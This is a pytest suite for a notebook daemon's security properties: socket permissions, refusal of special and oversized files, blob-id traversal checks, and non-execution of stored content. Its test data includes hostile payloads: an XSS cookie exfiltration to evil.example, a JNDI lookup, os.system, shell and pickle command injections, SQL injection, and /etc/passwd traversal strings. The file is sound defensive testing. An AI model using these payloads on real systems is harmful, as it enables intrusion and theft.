"""Security properties of the daemon, each verified rather than assumed.

* The Unix socket's directory is 0700 when the daemon creates it (an existing one keeps its mode;
  see ``test_socket_dir.py``) and the socket 0600; a live socket is never hijacked and a
  non-socket file at the socket path is never replaced.
* The daemon opens only regular files, by absolute path, under the size cap: FIFOs, devices,
  directories, sockets, over-cap files and relative paths are refused at the handshake *without
  the file being opened* (an ``os.open`` recorder proves it), and the loader's own read is
  non-blocking, fstat-checked and capped before any byte is read.
* Blob ids are validated everywhere (protocol ``get_blob``, every store method, manifests,
  outputs edited in by a peer): path traversal never reaches the filesystem.
* Outputs and metadata are data: scripts, shell and template payloads load and export back
  byte-identical, and nothing is executed (no subprocess, no eval of them, no canary file).
"""

from __future__ import annotations

import asyncio
import builtins
import json
import os
import stat
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

import core.notebook_file
from core import protocol as p
from core.blob_store import DiskBlobStore, is_blob_id
from core.client import NotebookClient, OpenRefused
from core.daemon import Daemon, DaemonConfig
from core.errors import CoreError, InvalidBlobId, NotebookLoadError
from core.ipynb_export import export_notebook
from core.manifest import (
    MANIFEST_MEDIA_TYPE,
    UNRESOLVED_OUTPUT_TEXT,
    resolve_ref,
)
from core.notebook_file import read_notebook_file
from sim.cli.open_cmd import fetch_blobs

from .conftest import Harness, HarnessFactory, simple_cells, write_notebook
from .test_hostile_inputs import WAIT, read_all_frames

# =========================================================================== filesystem recorder


class FsRecorder:
    """Records every path handed to os.open / open / os.stat / os.lstat / os.scandir."""

    def __init__(self) -> None:
        self.paths: list[str] = []  # every path touched (opened, stat'ed or listed)
        self.opened: list[str] = []  # only the paths opened
        self.active = False

    def record(self, op: str, path: Any) -> None:
        if self.active and isinstance(path, (str, bytes, os.PathLike)):
            raw = os.fspath(path)
            text = raw.decode() if isinstance(raw, bytes) else raw
            self.paths.append(text)
            if op == "open":
                self.opened.append(text)

    def outside(self, *roots: Path) -> list[str]:
        """Paths touched outside ``roots``; the directories above a root do not count (resolving
        a path inside it lstats them, which reads no file)."""
        allowed = [os.path.realpath(r) for r in roots]

        def inside_or_above(q: str, a: str) -> bool:
            real = os.path.realpath(q)
            return real == a or real.startswith(a + os.sep) or a.startswith(real.rstrip("/") + "/")

        return [q for q in self.paths if not any(inside_or_above(q, a) for a in allowed)]


@contextmanager
def recording(monkeypatch: pytest.MonkeyPatch) -> Iterator[FsRecorder]:
    rec = FsRecorder()
    real = {name: getattr(os, name) for name in ("open", "stat", "lstat", "scandir")}
    real_open = builtins.open

    def wrap(name: str) -> Any:
        def wrapper(path: Any, *args: Any, **kwargs: Any) -> Any:
            rec.record(name, path)
            return real[name](path, *args, **kwargs)

        return wrapper

    for name in real:
        monkeypatch.setattr(os, name, wrap(name))

    def recorded_open(file: Any, *args: Any, **kwargs: Any) -> Any:
        rec.record("open", file)
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", recorded_open)
    rec.active = True
    try:
        yield rec
    finally:
        rec.active = False


# =========================================================================== the socket
async def test_socket_dir_is_0700_and_socket_0600(tmp_path: Path) -> None:
    sock = tmp_path / "run" / "d.sock"
    umask = os.umask(0o022)
    os.umask(umask)
    async with Daemon(DaemonConfig(socket_path=sock, blob_root=tmp_path / "blobs")):
        assert stat.S_ISSOCK(sock.lstat().st_mode)
        assert stat.S_IMODE(sock.stat().st_mode) == 0o600
        assert stat.S_IMODE(sock.parent.stat().st_mode) == 0o700
        assert os.umask(umask) == umask  # the process umask was restored after the bind
    assert not sock.exists()  # removed on stop


async def test_existing_socket_dir_keeps_its_mode(tmp_path: Path) -> None:
    run = tmp_path / "run"
    run.mkdir(mode=0o755)
    run.chmod(0o755)
    async with Daemon(DaemonConfig(socket_path=run / "d.sock", blob_root=tmp_path / "b")):
        assert stat.S_IMODE(run.stat().st_mode) == 0o755  # not ours: never tightened
        assert stat.S_IMODE((run / "d.sock").stat().st_mode) == 0o600
    assert stat.S_IMODE(run.stat().st_mode) == 0o755


async def test_live_socket_is_never_hijacked(tmp_path: Path) -> None:
    sock = tmp_path / "run" / "d.sock"
    config = DaemonConfig(socket_path=sock, blob_root=tmp_path / "b", notebook_root=tmp_path)
    async with Daemon(config) as first:
        with pytest.raises(CoreError, match="a daemon is already listening"):
            async with Daemon(DaemonConfig(socket_path=sock, blob_root=tmp_path / "b")):
                pass
        # the first daemon still serves
        nb = write_notebook(tmp_path / "nb.ipynb", simple_cells(2))
        client = await NotebookClient.connect(sock, nb)
        await asyncio.wait_for(client.wait_loaded(), WAIT)
        await client.close()
        stats = first.statistics()
        # the second daemon's liveness probe was one connection without a handshake
        assert (stats.connections, stats.handshake_failures) == (2, 1)


async def test_non_socket_at_socket_path_is_never_replaced(tmp_path: Path) -> None:
    run = tmp_path / "run"
    run.mkdir()
    victim = run / "d.sock"
    victim.write_text("precious")
    with pytest.raises(CoreError, match="exists and is not a socket; refusing to replace it"):
        async with Daemon(DaemonConfig(socket_path=victim, blob_root=tmp_path / "b")):
            pass
    assert victim.read_text() == "precious"
    link = run / "link.sock"
    link.symlink_to(tmp_path / "elsewhere")
    with pytest.raises(CoreError, match="exists and is not a socket"):
        async with Daemon(DaemonConfig(socket_path=link, blob_root=tmp_path / "b")):
            pass
    assert link.is_symlink()


async def test_stale_socket_of_a_dead_daemon_is_replaced(tmp_path: Path) -> None:
    import socket

    sock = tmp_path / "run" / "d.sock"
    sock.parent.mkdir()
    with socket.socket(socket.AF_UNIX) as s:
        s.bind(str(sock))  # bound, never listening: a dead daemon's leftover
    async with Daemon(DaemonConfig(socket_path=sock, blob_root=tmp_path / "b")):
        assert stat.S_IMODE(sock.stat().st_mode) == 0o600


# =========================================================================== what the daemon opens
def _special_paths(tmp: Path) -> dict[str, tuple[Path, str]]:
    fifo = tmp / "fifo.ipynb"
    os.mkfifo(fifo)
    directory = tmp / "dir.ipynb"
    directory.mkdir()
    big = tmp / "big.ipynb"
    big.write_bytes(b"{" + b" " * 5000 + b"}")
    return {
        "fifo": (fifo, f"{fifo} is not a regular file"),
        "dev-zero": (Path("/dev/zero"), "/dev/zero is not a regular file"),
        "dev-null": (Path("/dev/null"), "/dev/null is not a regular file"),
        "directory": (directory, f"{directory} is a directory, not a notebook file"),
        "over-cap": (big, f"{big} is 5002 bytes, over the 4096-byte notebook size cap"),
    }


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "dev-null", "directory", "over-cap"])
async def test_non_regular_and_over_cap_files_are_never_opened(
    kind: str, make_harness: HarnessFactory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The devices are refused as devices, not as outside the root: the root is /dev for them.
    root = Path("/dev") if kind.startswith("dev-") else tmp_path
    h = await make_harness("memory", max_notebook_bytes=4096, notebook_root=root)
    path, message = _special_paths(tmp_path)[kind]
    reader, writer = await h.streams()
    client = NotebookClient(reader, writer)
    h.clients.append(client)
    with recording(monkeypatch) as rec, pytest.raises(OpenRefused) as info:
        await client.open(path)
    assert str(info.value) == message
    # stat'ed (that is how it was refused), never opened
    assert str(path) in rec.paths
    assert str(path) not in rec.opened and os.path.realpath(path) not in rec.opened
    assert len(h.daemon.rooms) == 0 and h.daemon.load_reports == []


async def test_relative_paths_are_refused_before_any_filesystem_access(
    make_harness: HarnessFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    h = await make_harness("memory")
    for raw in ("x.ipynb", "./x.ipynb", "../../etc/passwd", "~/x.ipynb", "C:\\x.ipynb"):
        reader, writer = await h.streams()
        payload = json.dumps({"channel": "open_notebook", "path": raw}).encode()
        with recording(monkeypatch) as rec:
            writer.write(len(payload).to_bytes(4, "big") + payload)
            frames = await read_all_frames(reader)
        writer.close()
        info = p.parse_connection_info(frames[0].payload)
        assert info.error is not None and "must be absolute" in info.error
        assert rec.paths == []
    assert len(h.daemon.rooms) == 0


def test_loader_read_is_absolute_nonblocking_and_capped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(NotebookLoadError, match="the notebook path must be absolute"):
        read_notebook_file("relative.ipynb")
    fifo = tmp_path / "fifo.ipynb"
    os.mkfifo(fifo)  # no writer: a blocking open would hang forever
    with pytest.raises(NotebookLoadError, match=r"not a regular file \(FIFO\)$"):
        read_notebook_file(str(fifo))
    with pytest.raises(NotebookLoadError, match=r"not a regular file \(character device\)$"):
        read_notebook_file("/dev/zero")
    big = tmp_path / "big.ipynb"
    big.write_bytes(b"x" * 4097)
    reads: list[int] = []

    class CountingOs:
        def __getattr__(self, name: str) -> Any:
            return getattr(os, name)

        def read(self, fd: int, n: int) -> bytes:
            reads.append(n)
            return os.read(fd, n)

    monkeypatch.setattr(core.notebook_file, "os", CountingOs())
    with pytest.raises(NotebookLoadError, match=r"file is 4097 bytes, over the limit of 4096$"):
        read_notebook_file(str(big), max_bytes=4096)
    assert reads == []  # the cap is checked from fstat, before a single byte is read
    ok = tmp_path / "ok.ipynb"
    ok.write_bytes(b"y" * 4096)
    assert read_notebook_file(str(ok), max_bytes=4096) == b"y" * 4096
    assert all(n <= 4097 for n in reads)  # never asks for more than the cap + 1


# =========================================================================== blob ids
HOSTILE_IDS = [
    "../../etc/passwd",
    "/etc/passwd",
    "..",
    "",
    "A" * 64,  # uppercase hex
    "a" * 63,
    "a" * 65,
    "a" * 64 + "\n",
    "a" * 62 + "/.",
    "aa/" + "b" * 61,
    "\u0660" * 64,  # Arabic-Indic digit zero: a "digit", not hex
    "a" * 63 + "\x00",
    "%2e%2e%2f" + "a" * 55,
    "g" * 64,
]


def _disk_harness_store(h: Harness, tmp: Path) -> DiskBlobStore:
    store = DiskBlobStore(tmp / "blobs")
    h.daemon.blob_store = store
    return store


async def test_get_blob_rejects_every_hostile_id_without_touching_the_filesystem(
    make_harness: HarnessFactory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    h = await make_harness("memory")
    store = _disk_harness_store(h, tmp_path)
    nb = write_notebook(tmp_path / "nb.ipynb", simple_cells(4))
    client = await h.connect(nb)
    await asyncio.wait_for(client.wait_loaded(), WAIT)
    assert store.list()  # the load stored manifests: there is something to steal
    for blob_id in HOSTILE_IDS:
        with recording(monkeypatch) as rec:
            response = await client.request(p.GetBlob(client.next_id(), blob_id))
        assert isinstance(response, p.ErrorResponse), blob_id
        assert response.error == (
            f"invalid blob id {blob_id!r}: expected 64 lowercase hex characters"
        )
        assert rec.paths == [], (blob_id, rec.paths)
    # a well-formed id that names no blob: looked up under the root only
    absent = "0" * 64
    with recording(monkeypatch) as rec:
        response = await client.request(p.GetBlob(client.next_id(), absent))
    assert response == p.ErrorResponse(response.id, f"no blob {absent}")
    assert rec.paths and rec.outside(Path(store.root)) == []
    await asyncio.wait_for(client.ping(), WAIT)  # none of that closed the connection


@pytest.mark.parametrize("blob_id", HOSTILE_IDS, ids=repr)
def test_blob_store_methods_validate_ids(
    blob_id: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store = DiskBlobStore(tmp_path / "blobs")
    store.put(b"secret", "text/plain")
    with recording(monkeypatch) as rec:
        for method in (store.get, store.get_meta, store.delete, store.path_of):
            with pytest.raises(InvalidBlobId):
                method(blob_id)
        assert store.exists(blob_id) is False
        assert resolve_ref(blob_id, store)["output_type"] == "stream"  # a placeholder
    assert rec.paths == []


def test_manifest_with_traversal_refs_resolves_to_a_placeholder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store = DiskBlobStore(tmp_path / "blobs")
    for ref in ("../../etc/passwd", "/etc/passwd", "A" * 64):
        manifest = {
            "output_type": "display_data",
            "data": {"text/plain": {"blob": ref, "size": 10}},
        }
        manifest_id = store.put(json.dumps(manifest).encode(), MANIFEST_MEDIA_TYPE)
        with recording(monkeypatch) as rec:
            out = resolve_ref(manifest_id, store)
        assert out == {"output_type": "stream", "name": "stderr", "text": UNRESOLVED_OUTPUT_TEXT}
        assert rec.outside(Path(store.root)) == []


async def test_outputs_edited_in_by_a_peer_cannot_read_outside_the_store(
    make_harness: HarnessFactory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A peer writes hostile output refs into the shared doc, then asks the daemon to save."""
    h = await make_harness("memory")
    store = _disk_harness_store(h, tmp_path)
    nb = write_notebook(tmp_path / "nb.ipynb", simple_cells(2))
    client = await h.connect(nb)
    await asyncio.wait_for(client.wait_loaded(), WAIT)
    cell_id = client.doc.get_cells()[0].id
    client.doc.set_outputs(cell_id, ["../../etc/passwd", "A" * 64, "/etc/shadow"])
    client.sync_now()
    room = h.daemon.rooms.rooms()[0]
    await asyncio.wait_for(client.wait_for(lambda: room.doc.heads() == client.doc.heads()), WAIT)
    with recording(monkeypatch) as rec:
        saved = await asyncio.wait_for(client.save(), WAIT)
    assert rec.outside(Path(store.root), tmp_path) == []
    data = json.loads(Path(saved.path).read_text())
    outputs = data["cells"][0]["outputs"]
    assert [o["output_type"] for o in outputs] == ["stream"] * 3  # placeholders, not files
    assert all("root:" not in "".join(o["text"]) for o in outputs)


# =========================================================================== content is data
MARKERS = {
    "html": '<script>fetch("https://evil.example/?c="+document.cookie)</script>'
    "<img src=x onerror=alert(1)>",
    "js": "require('child_process').exec('touch {canary}')",
    "svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    "<script>alert(2)</script></svg>",
    "python": "__import__('os').system('touch {canary}')",
    "shell": "$(touch {canary}); `touch {canary}`",
    "template": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "jndi": "${jndi:ldap://evil.example/a}",
    "sql": "'; DROP TABLE cells; --",
    "format": "%s%s%s%n {0.__class__} {canary!r}",
    "bidi": "safe\u202eexe.txt\u202c \u2066hidden\u2069",
    "control": "\x00\x07\x1b]0;title\x07\x1b[2J",
    "pickle": "cos\nsystem\n(S'touch {canary}'\ntR.",
}


def _payloads(canary: Path) -> dict[str, str]:
    return {k: v.replace("{canary}", str(canary)) for k, v in MARKERS.items()}


def _hostile_notebook(path: Path, payloads: dict[str, str]) -> dict[str, Any]:
    data = {
        "text/html": payloads["html"],
        "application/javascript": payloads["js"],
        "image/svg+xml": payloads["svg"],
        "text/plain": payloads["python"],
        "application/vnd.jupyter.widget-view+json": {"model_id": payloads["shell"], "x": 1},
        "text/markdown": payloads["template"],
    }
    nb = {
        "cells": [
            {
                "id": "evil",
                "cell_type": "code",
                "execution_count": 1,
                "metadata": {
                    "tags": [payloads["sql"]],
                    "jupyter": {"source_hidden": payloads["jndi"]},
                },
                "source": payloads["python"],
                "outputs": [
                    {
                        "output_type": "display_data",
                        "metadata": {"note": payloads["format"]},
                        "data": data,
                    },
                    {
                        "output_type": "execute_result",
                        "execution_count": 1,
                        "metadata": {},
                        "data": {"text/html": payloads["html"] * 200},
                    },
                    {
                        "output_type": "stream",
                        "name": "stdout",
                        "text": payloads["bidi"] + payloads["control"],
                    },
                    {
                        "output_type": "error",
                        "ename": payloads["pickle"],
                        "evalue": payloads["shell"],
                        "traceback": [payloads["js"]],
                    },
                    {"output_type": "evil_type", "payload": payloads["js"]},
                ],
            },
            {
                "id": "md",
                "cell_type": "markdown",
                "metadata": {},
                "source": payloads["html"],
                "attachments": {"x.svg": {"image/svg+xml": payloads["svg"]}},
            },
        ],
        "metadata": {
            "kernelspec": {"name": payloads["shell"], "display_name": payloads["bidi"]},
            "widgets": {"state": payloads["js"]},
        },
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    path.write_text(json.dumps(nb, ensure_ascii=False), encoding="utf-8")
    return nb


def _text(value: Any) -> Any:
    """nbformat writes multi-line strings as lists of lines: join them back."""
    return "".join(value) if isinstance(value, list) else value


def _unsplit_bundle(bundle: dict[str, Any]) -> dict[str, Any]:
    split = ("text/", "application/javascript", "image/svg+xml")
    return {m: _text(v) if m.startswith(split) else v for m, v in bundle.items()}


def _unsplit_output(output: dict[str, Any]) -> dict[str, Any]:
    output = dict(output)
    if output.get("output_type") == "stream":
        output["text"] = _text(output["text"])
    if output.get("output_type") in ("display_data", "execute_result"):
        output["data"] = _unsplit_bundle(output["data"])
    return output


async def test_outputs_and_metadata_are_never_executed_or_rendered(
    make_harness: HarnessFactory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    canary = tmp_path / "PWNED"
    payloads = _payloads(canary)
    nb_path = tmp_path / "evil.ipynb"
    original = _hostile_notebook(nb_path, payloads)
    spawned: list[Any] = []
    evaluated: list[Any] = []
    real_eval, real_exec = builtins.eval, builtins.exec

    def no_spawn(*args: Any, **kwargs: Any) -> Any:
        spawned.append(args)
        raise AssertionError(f"the daemon tried to run a process: {args!r}")

    def watch_eval(source: Any, *args: Any, **kwargs: Any) -> Any:
        evaluated.append(source)
        return real_eval(source, *args, **kwargs)

    def watch_exec(source: Any, *args: Any, **kwargs: Any) -> Any:
        evaluated.append(source)
        return real_exec(source, *args, **kwargs)

    monkeypatch.setattr(subprocess.Popen, "__init__", no_spawn)
    monkeypatch.setattr(os, "system", no_spawn)
    monkeypatch.setattr(os, "posix_spawn", no_spawn)
    monkeypatch.setattr(os, "fork", no_spawn)
    monkeypatch.setattr(builtins, "eval", watch_eval)
    monkeypatch.setattr(builtins, "exec", watch_exec)

    h = await make_harness("memory")
    _disk_harness_store(h, tmp_path)
    client = await h.connect(nb_path)
    await asyncio.wait_for(client.wait_loaded(), WAIT)
    # what a user exports through the protocol (get_blob of every manifest and blob)
    store = await fetch_blobs(client)
    exported = json.loads(export_notebook(client.doc, store))
    # and what the daemon itself writes back on save
    await asyncio.wait_for(client.save(), WAIT)
    saved = json.loads(nb_path.read_text(encoding="utf-8"))

    for result in (exported, saved):
        assert result["metadata"] == original["metadata"]
        for got, want in zip(result["cells"], original["cells"], strict=True):
            assert _text(got["source"]) == want["source"]
            assert got["metadata"] == want["metadata"]
            outputs = [_unsplit_output(o) for o in got.get("outputs", [])]
            # an output of a type nbformat 4.5 does not define is left out of a 4.5 file
            # (PROTOCOL.md 10.6); the others come back byte-identical
            valid = [o for o in want.get("outputs", []) if o["output_type"] != "evil_type"]
            assert outputs == valid
            attachments = {k: _unsplit_bundle(v) for k, v in got.get("attachments", {}).items()}
            assert attachments == want.get("attachments", {})
    text = nb_path.read_text(encoding="utf-8")
    for payload in payloads.values():
        assert json.dumps(payload, ensure_ascii=False)[1:-1] in text  # byte-identical, escaped once
    assert spawned == [] and not canary.exists()
    assert not any(
        isinstance(src, str) and any(m in src for m in payloads.values()) for src in evaluated
    )
    # the doc holds only hashes and raw JSON for outputs: no payload was rendered into it
    (cell, _md) = client.doc.get_cells()
    assert all(is_blob_id(ref) for ref in cell.outputs[:4])
    assert json.loads(cell.outputs[4])["payload"] == payloads["js"]
